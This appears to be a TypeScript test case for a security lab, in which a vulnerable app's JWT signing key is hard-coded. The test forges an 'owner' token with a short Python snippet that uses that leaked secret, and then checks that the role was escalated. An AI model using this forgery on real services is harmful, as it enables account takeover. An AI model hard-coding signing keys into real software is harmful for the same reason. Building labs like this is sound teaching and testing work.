import type { LabModule } from '../../labModule';

const FORGE = [
  'import jwt',
  'print(jwt.encode({"sub": "mallory", "role": "owner"}, "cinnamon-and-sugar-and-all-that-is-nice"))',
];

export const lab: LabModule = {
  cases: [
    {
      name: 'a token signed with the key from the code',
      honest: [
        {
          to: 'POST /token',
          form: { password: 'apple-tree' },
          save: { token: /"token":"([^"]+)"/ },
          shows: 'token',
        },
        { to: '/me', headers: { 'X-Token': ({ token }) => token ?? '' }, shows: '"role":"customer"' },
        { to: '/me', headers: { 'X-Token': 'x' }, status: 401 },
      ],
      exploit: [
        { python: FORGE, saveAs: 'token' },
        { to: '/me', headers: { 'X-Token': ({ token }) => token ?? '' } },
      ],
      proof: { body: '"role":"owner"' },
    },
  ],
};
